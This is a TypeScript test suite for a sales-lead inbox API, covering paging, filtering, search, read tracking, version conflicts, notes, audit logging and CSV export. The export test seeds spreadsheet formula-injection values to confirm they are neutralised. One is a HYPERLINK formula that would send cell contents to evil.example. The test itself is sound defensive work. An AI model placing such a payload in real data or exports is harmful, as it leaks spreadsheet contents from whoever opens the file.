import { eq } from "drizzle-orm";
import type { FastifyInstance } from "fastify";
import { describe, expect, it } from "vitest";
import { auditEvents, contacts, leadEvents, leadNotes, leadSeen, teamMembers } from "../db/schema";
import { startApp } from "../testing/app";
import { addLeads, addMember, as } from "../testing/inbox";
import { BACKENDS } from "../testing/support";
import { encodeCursor } from "./list-query";

const day = (date: string) => new Date(`${date}T12:00:00Z`);

/** Every id a list answers for this query, walking its pages `limit` at a time. */
async function allIds(
  app: FastifyInstance,
  member: Parameters<typeof as>[1],
  query: string,
  limit = 100,
): Promise<number[]> {
  const ids: number[] = [];
  let cursor: string | null = null;
  do {
    const response = await as(app, member).get(
      `/api/team/leads?limit=${limit}${query ? `&${query}` : ""}${cursor ? `&cursor=${cursor}` : ""}`,
    );
    expect(response.statusCode, response.body).toBe(200);
    const body = response.json<{ items: { id: number }[]; nextCursor: string | null }>();
    expect(body.items.length).toBeLessThanOrEqual(limit);
    ids.push(...body.items.map((item) => item.id));
    cursor = body.nextCursor;
  } while (cursor);
  return ids;
}

describe.each(BACKENDS)("the workspace's leads on %s", (backend) => {
  it("sorts by status and by due time in keyset pages, totals the filtered list, searches messages and notes, and shows a lead's other enquiries", async () => {
    const app = await startApp(backend);
    const sam = await addMember(app, "sales", "Sam");
    const hour = 3_600_000;
    const statuses = ["spam", "new", "won", "new", "contacted", "new", "lost", "qualified", "new", "new"] as const;
    const seeded = statuses.map((status, index) => ({
      name: `Lead ${index}`,
      email: index === 4 ? "Greta@Zweimal.example" : `lead${index}@example.org`,
      company: index === 2 || index === 6 ? "Zweimal AG" : null,
      message: index === 3 ? "Wir brauchen eine App für unsere Praxen." : "We would like an app for our shops.",
      status,
      // Due times out of arrival order; lead 8 was answered, so its clock has stopped.
      dueAt: new Date(Date.UTC(2026, 11, 1) + ((index * 7) % 10) * hour),
      firstReplyAt: index === 8 ? new Date() : null,
    }));
    seeded.push({
      ...seeded[0]!,
      name: "Greta again",
      email: "greta@zweimal.example",
      company: "Zweimal AG",
      status: "new",
    });
    const ids = await addLeads(app, seeded);
    const rank = ["new", "contacted", "qualified", "won", "lost", "spam"];
    const byStatus = ids
      .map((id, index) => ({ id, rank: rank.indexOf(seeded[index]!.status) }))
      .sort((a, b) => a.rank - b.rank || b.id - a.id)
      .map((lead) => lead.id);
    expect(await allIds(app, sam, "sort=status", 3)).toEqual(byStatus);
    const runs = (index: number) => seeded[index]!.status === "new" && !seeded[index]!.firstReplyAt;
    const byDue = ids
      .map((id, index) => ({ id, clock: runs(index) ? 0 : 1, due: seeded[index]!.dueAt.getTime() }))
      .sort((a, b) => a.clock - b.clock || a.due - b.due || a.id - b.id)
      .map((lead) => lead.id);
    expect(await allIds(app, sam, "sort=due", 4)).toEqual(byDue);
    expect(await allIds(app, sam, "sort=due&status=new", 2)).toEqual(
      byDue.filter((id) => seeded[ids.indexOf(id)]!.status === "new"),
    );
    expect((await as(app, sam).get("/api/team/leads?sort=price")).statusCode).toBe(400);

    // The total of the filtered list, apart from its pages.
    const total = await as(app, sam).get("/api/team/leads/count?status=new");
    expect(total.json()).toEqual({ total: seeded.filter((lead) => lead.status === "new").length });
    expect((await as(app, sam).get("/api/team/leads/count?status=open")).statusCode).toBe(400);

    // The search covers the message and the notes.
    const note = await as(app, sam).post(`/api/team/leads/${ids[5]}/notes`, { body: "Kick-off in Hamburg agreed." });
    expect(note.statusCode).toBe(201);
    const search = async (q: string) => allIds(app, sam, `q=${encodeURIComponent(q)}`);
    expect(await search("hamburg")).toEqual([ids[5]]);
    expect(await search("PRAXEN")).toEqual([ids[3]]);
    expect(await search("greta@")).toEqual([ids[10], ids[4]]);

    // A lead's other enquiries: the same address whatever its case, or the same company; newest first.
    const detail = (await as(app, sam).get(`/api/team/leads/${ids[10]}`)).json();
    expect(detail.others.map((other: { id: number; match: string }) => [other.id, other.match])).toEqual([
      [ids[6], "company"],
      [ids[4], "address"],
      [ids[2], "company"],
    ]);
    expect((await as(app, sam).get(`/api/team/leads/${ids[1]}`)).json().others).toEqual([]);

    // A cursor whose lead is gone: start again.
    const cursor = encodeCursor(ids[9]!);
    await app.database.db.delete(contacts).where(eq(contacts.id, ids[9]!));
    expect((await as(app, sam).get(`/api/team/leads?sort=status&cursor=${cursor}`)).statusCode).toBe(400);
  });

  it("finds a lead by its notes in every order when other filters narrow the list to older leads", async () => {
    const app = await startApp(backend);
    const sam = await addMember(app, "sales", "Sam");
    // 150 leads found by their notes alone (more than a page); the oldest is the one won.
    const ids = await addLeads(
      app,
      Array.from({ length: 150 }, (_, index) => ({ status: index === 0 ? ("won" as const) : ("new" as const) })),
    );
    await app.database.db
      .insert(leadNotes)
      .values(ids.map((leadId) => ({ leadId, authorId: sam.id, body: "Met at the quokka meetup." })));
    expect((await as(app, sam).get("/api/team/leads/count?q=quokka")).json()).toEqual({ total: 150 });
    expect((await as(app, sam).get("/api/team/leads/count?q=quokka&status=won")).json()).toEqual({ total: 1 });
    // In arrival order the page reads the notes of the won leads, not the newest leads' notes.
    expect(await allIds(app, sam, "q=quokka&status=won", 20)).toEqual([ids[0]]);
    expect(await allIds(app, sam, "q=quokka&status=won&sort=status")).toEqual([ids[0]]);
    expect(await allIds(app, sam, "q=quokka&status=new", 100)).toEqual(ids.slice(1).reverse());
  });

  it("lists leads newest first in keyset pages, filtered by status, service, assignee and UTC days, searched by name, e-mail and company", async () => {
    const app = await startApp(backend);
    const sam = await addMember(app, "sales", "Sam");
    const owner = await addMember(app, "owner", "Olivia");
    const statuses = ["new", "contacted", "qualified", "won", "lost", "spam"] as const;
    const seeded = Array.from({ length: 36 }, (_, index) => ({
      name: index === 7 ? "Mariam Khan" : `Person ${index}`,
      email: index === 11 ? "buyer@Shop.Example.NET" : `person${index}@example.org`,
      company: index === 20 ? "Clinic Group" : index === 21 ? "100% Organic" : index === 22 ? "Under_score Ltd" : null,
      service: index % 3 === 0 ? "web-development" : index % 3 === 1 ? "mobile-apps" : null,
      status: statuses[index % 6],
      assigneeId: index % 4 === 0 ? sam.id : index % 4 === 1 ? owner.id : null,
      createdAt: day(`2026-01-${String(1 + Math.floor(index / 2)).padStart(2, "0")}`),
    }));
    // The edges of a UTC day: its first and last instant, and the next day's first.
    seeded.push({ ...seeded[0]!, name: "Edge A", createdAt: new Date("2026-02-05T00:00:00.000Z") });
    seeded.push({ ...seeded[0]!, name: "Edge B", createdAt: new Date("2026-02-05T23:59:59.999Z") });
    seeded.push({ ...seeded[0]!, name: "Edge C", createdAt: new Date("2026-02-06T00:00:00.000Z") });
    const ids = await addLeads(app, seeded);
    const newestFirst = (keep: (lead: (typeof seeded)[number]) => boolean) =>
      ids.filter((_, index) => keep(seeded[index]!)).reverse();

    // Pages of 7 walk the whole list once, newest first; the last page says so.
    expect(await allIds(app, sam, "", 7)).toEqual([...ids].reverse());
    const first = (await as(app, sam).get("/api/team/leads")).json();
    expect(first.nextCursor).toBeNull();
    expect(first.items[0]).toEqual({
      id: ids.at(-1),
      name: "Edge C",
      email: "person0@example.org",
      company: null,
      service: "web-development",
      budget: null,
      status: "new",
      assignee: { id: sam.id, name: "Sam" },
      createdAt: "2026-02-06T00:00:00.000Z",
      locale: "en",
      isNew: true,
      // Friday 01:00 in Munich: due at that day's closing time.
      dueAt: "2026-02-06T17:00:00.000Z",
      firstReplyAt: null,
      version: 1,
    });

    expect(await allIds(app, sam, "status=won", 2)).toEqual(newestFirst((lead) => lead.status === "won"));
    expect(await allIds(app, sam, "service=mobile-apps")).toEqual(
      newestFirst((lead) => lead.service === "mobile-apps"),
    );
    expect(await allIds(app, sam, "service=none")).toEqual(newestFirst((lead) => lead.service === null));
    expect(await allIds(app, sam, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === sam.id));
    expect(await allIds(app, owner, "assignee=me")).toEqual(newestFirst((lead) => lead.assigneeId === owner.id));
    expect(await allIds(app, sam, `assignee=${owner.id}`)).toEqual(newestFirst((lead) => lead.assigneeId === owner.id));
    expect(await allIds(app, sam, "assignee=none")).toEqual(newestFirst((lead) => lead.assigneeId === null));
    expect(await allIds(app, sam, "from=2026-02-05&to=2026-02-05")).toEqual([ids.at(-2), ids.at(-3)]);
    expect(await allIds(app, sam, "from=2026-02-06")).toEqual([ids.at(-1)]);
    expect(await allIds(app, sam, "to=2026-01-01")).toEqual([ids[1], ids[0]]);
    expect(await allIds(app, sam, "status=new&service=web-development&assignee=me")).toEqual(
      newestFirst((lead) => lead.status === "new" && lead.service === "web-development" && lead.assigneeId === sam.id),
    );

    // Search: any case, a substring of the name, the address or the company; LIKE's own characters are literal.
    expect(await allIds(app, sam, "q=KHAN")).toEqual([ids[7]]);
    expect(await allIds(app, sam, "q=shop.example.net")).toEqual([ids[11]]);
    expect(await allIds(app, sam, "q=%20clinic%20")).toEqual([ids[20]]);
    expect(await allIds(app, sam, "q=100%25")).toEqual([ids[21]]);
    expect(await allIds(app, sam, "q=%25")).toEqual([ids[21]]);
    expect(await allIds(app, sam, "q=r_s")).toEqual([ids[22]]);
    expect(await allIds(app, sam, "q=xyzzy")).toEqual([]);
    // One field at a time: the end of a name and the start of its address are not one string.
    expect(await allIds(app, sam, "q=khan%20person7")).toEqual([]);
    expect(await allIds(app, sam, "q=edge&status=new")).toEqual([ids.at(-1), ids.at(-2), ids.at(-3)]);
    // An empty filter is no filter (a form's blank field).
    expect(await allIds(app, sam, "q=&status=&service=")).toEqual([...ids].reverse());
  });

  it("keeps a lead unseen per member until that member opens it or marks it seen, and counts unseen leads exactly", async () => {
    const app = await startApp(backend);
    const { db } = app.database;
    const sam = await addMember(app, "sales", "Sam");
    const olivia = await addMember(app, "owner", "Olivia");
    const ids = await addLeads(app, [{}, {}, {}, { locale: "de" }]);
    type List = { items: { id: number; isNew: boolean }[]; newCount: number; asOf: string };
    const list = async (member = sam, query = "") =>
      (await as(app, member).get(`/api/team/leads${query}`)).json<List>();
    const unseenIds = async (member = sam) =>
      (await list(member)).items.filter((item) => item.isNew).map((item) => item.id);

    // Loading and filtering lists, again and again, changes nothing.
    expect((await list()).newCount).toBe(4);
    await list(sam, "?status=new");
    await list(sam, "?language=de");
    expect(await unseenIds()).toEqual([...ids].reverse());
    expect((await list()).newCount).toBe(4);

    // Opening a lead is seeing it, for that member only; it says it was new to them when opened.
    const opened = await as(app, sam).get(`/api/team/leads/${ids[1]}`);
    expect(opened.json().lead.isNew).toBe(true);
    expect((await as(app, sam).get(`/api/team/leads/${ids[1]}`)).json().lead.isNew).toBe(false);
    expect(await unseenIds()).toEqual([ids[3], ids[2], ids[0]]);
    expect((await list()).newCount).toBe(3);
    expect((await list(olivia)).newCount).toBe(4);

    // Marking some seen, by id (unknown ids are ignored); the unseen filter lists exactly the rest.
    expect((await as(app, sam).post("/api/team/leads/seen", { ids: [ids[0]!, 999_999] })).statusCode).toBe(204);
    expect((await list(sam, "?seen=unseen")).items.map((item) => item.id)).toEqual([ids[3], ids[2]]);
    expect((await list(sam, "?seen=unseen&language=de")).items.map((item) => item.id)).toEqual([ids[3]]);

    // "Mark all as seen" up to the list's time: a lead that arrives after the member looked stays unseen.
    const { asOf } = await list();
    const [later] = await addLeads(app, [{ createdAt: new Date(Date.now() + 60_000) }]);
    expect((await as(app, sam).post("/api/team/leads/seen", { upTo: asOf })).statusCode).toBe(204);
    expect(await unseenIds()).toEqual([later]);
    expect((await list()).newCount).toBe(1);
    // The single marks the mark now covers are forgotten; a stale tab's older mark never moves it back.
    expect(await db.select().from(leadSeen).where(eq(leadSeen.memberId, sam.id))).toEqual([]);
    await as(app, sam).post("/api/team/leads/seen", { upTo: "2020-01-01T00:00:00Z" });
    expect(await unseenIds()).toEqual([later]);
    // Another member's view is their own.
    expect((await list(olivia)).newCount).toBe(5);
    const [row] = await db
      .select({ seen: teamMembers.leadsSeenAt })
      .from(teamMembers)
      .where(eq(teamMembers.id, olivia.id));
    expect(row!.seen).toBeNull();

    // Counts are exact, not capped.
    await addLeads(
      app,
      Array.from({ length: 1503 }, () => ({ createdAt: new Date(Date.now() + 120_000) })),
    );
    expect((await list()).newCount).toBe(1504);
    expect((await list(olivia)).newCount).toBe(1508);

    for (const [payload, field] of [
      [{ ids: [] }, "ids"],
      [{ ids: ["1"] }, "ids"],
      [{ ids: Array.from({ length: 501 }, (_, index) => index + 1) }, "ids"],
      [{ upTo: "yesterday" }, "upTo"],
      [{ other: 1 }, "form"],
    ] as const) {
      const refused = await as(app, sam).post("/api/team/leads/seen", payload);
      expect(refused.statusCode, JSON.stringify(payload).slice(0, 40)).toBe(400);
      expect(Object.keys(refused.json().fields), JSON.stringify(payload).slice(0, 40)).toEqual([field]);
    }
  });

  it("refuses a save based on an older version with 409, what changed since and by whom, and keeps the colleague's change", async () => {
    const app = await startApp(backend);
    const { db } = app.database;
    const sam = await addMember(app, "sales", "Sam");
    const olivia = await addMember(app, "owner", "Olivia");
    const [id] = await addLeads(app, [{}]);
    const read = async (member = sam) => (await as(app, member).get(`/api/team/leads/${id}`)).json();
    const opened = await read();
    expect(opened.lead.version).toBe(1);
    expect(opened.changes).toEqual([]);
    const theirs = await read(olivia);

    // Sam assigns it to himself and marks it contacted: version 2, two changes on the timeline.
    const saved = await as(app, sam).patch(`/api/team/leads/${id}`, {
      version: 1,
      status: "contacted",
      assigneeId: sam.id,
    });
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json().lead).toMatchObject({ version: 2, status: "contacted", assignee: { id: sam.id } });
    expect(saved.json().changes).toMatchObject([
      { version: 2, actor: { id: sam.id, name: "Sam" }, kind: "status", from: "new", to: "contacted" },
      { version: 2, actor: { id: sam.id, name: "Sam" }, kind: "assignee", from: null, to: { id: sam.id, name: "Sam" } },
    ]);

    // Olivia's page still shows version 1: her save is refused, nothing changes, and she is told what changed.
    const stale = await as(app, olivia).patch(`/api/team/leads/${id}`, {
      version: theirs.lead.version,
      status: "lost",
    });
    expect(stale.statusCode).toBe(409);
    expect(stale.json().error).toMatch(/^Sam changed this lead after you opened it\./);
    expect(stale.json().lead).toMatchObject({ id, version: 2, status: "contacted", assignee: { id: sam.id } });
    expect(stale.json().changes.map((change: { kind: string; to: unknown }) => [change.kind, change.to])).toEqual([
      ["status", "contacted"],
      ["assignee", { id: sam.id, name: "Sam" }],
    ]);
    const [row] = await db.select().from(contacts).where(eq(contacts.id, id!));
    expect([row!.status, row!.version]).toEqual(["contacted", 2]);

    // Re-applied on the version she was shown, it saves; only what differs is a change.
    const reapplied = await as(app, olivia).patch(`/api/team/leads/${id}`, {
      version: 2,
      status: "lost",
      assigneeId: sam.id,
    });
    expect(reapplied.statusCode).toBe(200);
    expect(reapplied.json().lead.version).toBe(3);
    expect(
      (await read()).changes.map((change: { version: number; kind: string }) => [change.version, change.kind]),
    ).toEqual([
      [2, "status"],
      [2, "assignee"],
      [3, "status"],
    ]);
    // A save that changes nothing keeps the version and records nothing.
    const same = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 3, status: "lost" });
    expect(same.json().lead.version).toBe(3);
    expect(await db.select().from(leadEvents)).toHaveLength(3);

    // Two saves on the same version at once: exactly one wins.
    const race = await Promise.all(
      (["won", "qualified"] as const).map((status, index) =>
        as(app, index ? olivia : sam).patch(`/api/team/leads/${id}`, { version: 3, status }),
      ),
    );
    expect(race.map((response) => response.statusCode).sort()).toEqual([200, 409]);
    expect((await read()).lead.version).toBe(4);

    // A save without a version, or with a malformed one, is a 400 on the version.
    for (const payload of [{ status: "won" }, { version: "4", status: "won" }, { version: 0, status: "won" }]) {
      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
      expect(refused.statusCode).toBe(400);
      expect(Object.keys(refused.json().fields)).toEqual(["version"]);
    }
  });

  it("shows a lead whole with its notes and a reply link, changes its status and assignee, and keeps notes with their author", async () => {
    const app = await startApp(backend);
    const { db } = app.database;
    const sam = await addMember(app, "sales", "Sam");
    const olivia = await addMember(app, "owner", "Olivia");
    const recruiter = await addMember(app, "recruiting", "Rita");
    const gone = await addMember(app, "sales", "Gone");
    await db.update(teamMembers).set({ removedAt: new Date() }).where(eq(teamMembers.id, gone.id));
    const [id] = await addLeads(app, [
      {
        name: "Mariam Khan",
        email: "mariam.khan+web@example.org",
        company: "Clinic Group",
        phone: "+971 50 123 4567",
        budget: "$25k-$75k",
        message: "We need an appointment app.\nFor Dubai and Munich.",
      },
    ]);

    const detail = await as(app, sam).get(`/api/team/leads/${id}`);
    expect(detail.statusCode).toBe(200);
    expect(detail.json()).toMatchObject({
      lead: {
        id,
        name: "Mariam Khan",
        email: "mariam.khan+web@example.org",
        company: "Clinic Group",
        phone: "+971 50 123 4567",
        budget: "$25k-$75k",
        status: "new",
        assignee: null,
        message: "We need an appointment app.\nFor Dubai and Munich.",
      },
      notes: [],
      reply: "mailto:mariam.khan%2Bweb@example.org?subject=Re%3A%20your%20enquiry%20to%20Alphai",
    });
    expect(detail.json().lead.consentAt).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    // Reading a lead's details is audited, as opening an application is.
    const views = await db.select().from(auditEvents).where(eq(auditEvents.action, "lead.view"));
    expect(views.map((event) => [event.actorId, event.subjectType, event.subjectId])).toEqual([
      [sam.id, "lead", String(id)],
    ]);
    expect(new URL(detail.json().reply).searchParams.get("subject")).toBe("Re: your enquiry to Alphai");

    const won = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 1, status: "won", assigneeId: olivia.id });
    expect(won.statusCode, won.body).toBe(200);
    expect(won.json().lead).toMatchObject({
      id,
      status: "won",
      assignee: { id: olivia.id, name: "Olivia" },
      message: "We need an appointment app.\nFor Dubai and Munich.",
    });
    const [stored] = await db.select().from(contacts).where(eq(contacts.id, id!));
    expect([stored!.status, stored!.assigneeId]).toEqual(["won", olivia.id]);

    // Only an active owner or sales member takes a lead; null is nobody.
    for (const assigneeId of [recruiter.id, gone.id, 999_999]) {
      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, { version: 2, assigneeId });
      expect(refused.statusCode).toBe(400);
      expect(Object.keys(refused.json().fields)).toEqual(["assigneeId"]);
    }
    expect(
      (await as(app, sam).patch(`/api/team/leads/${id}`, { version: 2, assigneeId: null })).json().lead.assignee,
    ).toBeNull();
    for (const [payload, field] of [
      [{ version: 3 }, "form"],
      [{ version: 3, status: "closed" }, "status"],
      [{ version: 3, status: "won", extra: 1 }, "form"],
      [{ version: 3, assigneeId: "1" }, "assigneeId"],
      [{ version: 3, assigneeId: 1.5 }, "assigneeId"],
    ] as const) {
      const refused = await as(app, sam).patch(`/api/team/leads/${id}`, payload);
      expect(refused.statusCode, JSON.stringify(payload)).toBe(400);
      expect(Object.keys(refused.json().fields), JSON.stringify(payload)).toEqual([field]);
    }

    const note = await as(app, sam).post(`/api/team/leads/${id}/notes`, {
      body: "  Called her: a demo on Monday.\n\nSend the offer after.  ",
    });
    expect(note.statusCode, note.body).toBe(201);
    expect(note.json().note).toMatchObject({
      body: "Called her: a demo on Monday.\n\nSend the offer after.",
      author: { id: sam.id, name: "Sam" },
    });
    await as(app, olivia).post(`/api/team/leads/${id}/notes`, { body: "Offer sent." });
    for (const body of ["", "   ", "x".repeat(5001), "bell \u0007", "nul \u0000", 42]) {
      const refused = await as(app, sam).post(`/api/team/leads/${id}/notes`, { body });
      expect(refused.statusCode, JSON.stringify(body)).toBe(400);
      expect(Object.keys(refused.json().fields)).toEqual(["body"]);
    }
    expect((await as(app, sam).post(`/api/team/leads/${id}/notes`, { body: "x".repeat(5000) })).statusCode).toBe(201);
    const notes = (await as(app, olivia).get(`/api/team/leads/${id}`)).json().notes;
    expect(
      notes.map((entry: { body: string; author: { name: string } }) => [entry.author.name, entry.body.slice(0, 12)]),
    ).toEqual([
      ["Sam", "Called her: "],
      ["Olivia", "Offer sent."],
      ["Sam", "xxxxxxxxxxxx"],
    ]);
    expect(await db.select({ author: leadNotes.authorId }).from(leadNotes)).toHaveLength(3);

    // Audited as ids, statuses and note ids: never the text.
    const events = await db.select().from(auditEvents).orderBy(auditEvents.id);
    expect(events.filter((event) => event.action === "lead.update").map((event) => event.detail)).toEqual([
      { status: "won", assigneeId: olivia.id },
      { assigneeId: null },
    ]);
    expect(
      events
        .filter((event) => event.action === "lead.note")
        .map((event) => [event.actorId, event.subjectType, event.subjectId]),
    ).toEqual([
      [sam.id, "lead", String(id)],
      [olivia.id, "lead", String(id)],
      [sam.id, "lead", String(id)],
    ]);
    expect(JSON.stringify(events)).not.toMatch(/Mariam|mariam|Called|Offer sent|Clinic/);
  });

  it("answers 400 with the field for a malformed id, cursor, page size or filter, and 404 for a lead that is not there", async () => {
    const app = await startApp(backend);
    const sam = await addMember(app, "sales", "Sam");
    const [id] = await addLeads(app, [{}]);
    const fieldsOf = async (url: string) => {
      const response = await as(app, sam).get(url);
      expect(response.statusCode, url).toBe(400);
      expect(response.body).not.toMatch(/stack|\.ts:\d+/);
      return Object.keys(response.json().fields);
    };
    for (const bad of ["abc", "0", "-1", "1.5", "99999999999", "1e3"])
      expect(await fieldsOf(`/api/team/leads/${bad}`)).toEqual(["id"]);
    for (const bad of [
      "garbage!",
      "aWQ6",
      encodeURIComponent(Buffer.from("id:abc").toString("base64url")),
      "x".repeat(300),
    ]) {
      expect(await fieldsOf(`/api/team/leads?cursor=${bad}`)).toEqual(["cursor"]);
    }
    for (const bad of ["0", "101", "abc", "-5"])
      expect(await fieldsOf(`/api/team/leads?limit=${bad}`)).toEqual(["limit"]);
    expect(await fieldsOf("/api/team/leads?status=open")).toEqual(["status"]);
    expect(await fieldsOf("/api/team/leads?status=won&status=lost")).toEqual(["status"]);
    expect(await fieldsOf("/api/team/leads?service=Web%20Development")).toEqual(["service"]);
    expect(await fieldsOf("/api/team/leads?assignee=someone")).toEqual(["assignee"]);
    expect(await fieldsOf("/api/team/leads?from=2026-02-30")).toEqual(["from"]);
    expect(await fieldsOf("/api/team/leads?to=31.01.2026")).toEqual(["to"]);
    expect(await fieldsOf("/api/team/leads?from=2026-02-02&to=2026-02-01")).toEqual(["to"]);
    expect(await fieldsOf(`/api/team/leads?q=${"x".repeat(101)}`)).toEqual(["q"]);
    expect(await fieldsOf("/api/team/leads?q=a%0Ab")).toEqual(["q"]);
    expect(await fieldsOf("/api/team/leads?sort=name")).toEqual(["sort"]);
    expect(await fieldsOf("/api/team/leads?order=name")).toEqual(["form"]);
    expect(await fieldsOf("/api/team/leads/export.csv?status=open")).toEqual(["status"]);
    expect((await as(app, sam).patch("/api/team/leads/abc", { status: "won" })).statusCode).toBe(400);
    expect((await as(app, sam).post("/api/team/leads/abc/notes", { body: "x" })).statusCode).toBe(400);

    // A well-formed cursor past the last lead: an empty last page.
    expect((await as(app, sam).get(`/api/team/leads?cursor=${encodeCursor(id!)}`)).json()).toMatchObject({
      items: [],
      nextCursor: null,
    });
    for (const response of [
      await as(app, sam).get("/api/team/leads/999999"),
      await as(app, sam).patch("/api/team/leads/999999", { version: 1, status: "won" }),
      await as(app, sam).post("/api/team/leads/999999/notes", { body: "Hello" }),
    ]) {
      expect(response.statusCode).toBe(404);
      expect(response.json().error).toMatch(/No such lead/);
    }
    expect(await app.database.db.select().from(leadNotes)).toEqual([]);
  });

  it("exports the whole filtered view, not one page, as formula-safe CSV, and audits the export with its row count", async () => {
    const app = await startApp(backend);
    const sam = await addMember(app, "sales", "Sam");
    const leads: Parameters<typeof addLeads>[1][number][] = Array.from({ length: 120 }, (_, index) => ({
      status: index % 2 ? "won" : "new",
      phone: "+49 30 1234567",
    }));
    leads.push({
      status: "won",
      phone: "+49 30 1234567",
      name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      company: "@SUM(1+1)",
      message: "  -2+3\nsecond line",
    });
    await addLeads(app, leads);

    const response = await as(app, sam).get("/api/team/leads/export.csv?status=won&limit=5&cursor=");
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="alphai-leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers["cache-control"]).toBe("no-store");
    const lines = response.body.trimEnd().split("\n");
    expect(lines[0]).toBe("id,date,status,assignee,name,email,company,phone,service,budget,currency,language,message");
    // 61 won leads, one of them with a line break in its message (quoted, on two lines).
    expect(lines).toHaveLength(1 + 61 + 1);
    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(response.body).toContain(",'@SUM(1+1),");
    expect(response.body).toContain(`"'  -2+3\nsecond line"`);
    expect(response.body).toContain(",'+49 30 1234567,");
    expect(response.body).not.toMatch(/(^|,)[=@+-]/m);

    const empty = await as(app, sam).get("/api/team/leads/export.csv?status=spam");
    expect(empty.body).toBe(
      "id,date,status,assignee,name,email,company,phone,service,budget,currency,language,message\n",
    );
    const events = await app.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.action, "export"))
      .orderBy(auditEvents.id);
    expect(events.map((event) => [event.actorId, event.detail])).toEqual([
      [sam.id, { list: "leads", rows: 61 }],
      [sam.id, { list: "leads", rows: 0 }],
    ]);
  });
});
